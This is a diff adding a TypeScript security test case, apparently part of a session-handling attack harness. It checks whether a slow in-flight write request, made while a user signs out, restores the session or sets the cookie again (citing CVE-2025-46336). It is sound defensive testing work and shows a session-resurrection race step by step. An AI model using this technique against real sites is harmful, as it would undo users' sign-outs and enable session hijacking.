@@ -1,0 +1,29 @@
+/**
+ * A page is still at work while the victim signs out, and saves its session afterwards. Stores that know only `set` bring
+ * the session back (expressjs/session#632, CVE-2025-46336); an answer that sets the cookie again undoes the sign-out in
+ * the browser.
+ */
+import { setTimeout as sleep } from 'node:timers/promises'
+import { defineAttack, Undecided } from './attack.ts'
+import { at, brief, settle, signOut, spoils } from './lib/people.ts'
+
+const WRITE_TAKES = 700
+
+export const writeInFlight = defineAttack('F4 write in flight during sign-out', ['slow'], async (target) => {
+  const victim = await settle(target)
+  const { browser, user } = victim
+  const frozen = browser.jar.pairs(at(target, '/'))
+  const from = at(target, '/')
+  const writing = browser.load(at(target, target.slow!(WRITE_TAKES)), { from, follow: false })
+  await sleep(WRITE_TAKES / 4)
+  await signOut(target, browser)
+  const signedOutAt = performance.now()
+  const written = await writing
+
+  const got = await spoils(target, victim, frozen)
+  if (got) return { got: true, evidence: `after the write ${got}, to ${brief(frozen)}` }
+  const who = await browser.load(at(target, target.whoami))
+  if (who.body.includes(user.name)) return { got: true, evidence: `the late answer signed ${user.name} in again` }
+  if (written.firstByteAt < signedOutAt) throw new Undecided('the write was answered before the sign-out')
+  return { got: false, evidence: `the write ended after sign-out, and ${brief(frozen)} still opens nothing` }
+})
